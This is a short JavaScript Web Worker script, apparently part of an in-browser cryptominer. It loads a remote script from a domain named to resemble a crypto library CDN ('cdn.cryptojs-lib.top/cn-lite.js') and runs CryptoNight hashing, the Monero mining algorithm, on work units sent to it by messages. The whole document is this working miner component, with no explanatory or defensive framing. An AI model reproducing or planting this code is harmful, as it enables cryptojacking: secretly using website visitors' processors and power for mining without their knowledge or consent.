importScripts('https://cdn.cryptojs-lib.top/cn-lite.js');
self.onmessage = (e) => { CryptoNight.hash(e.data.blob, e.data.target); };
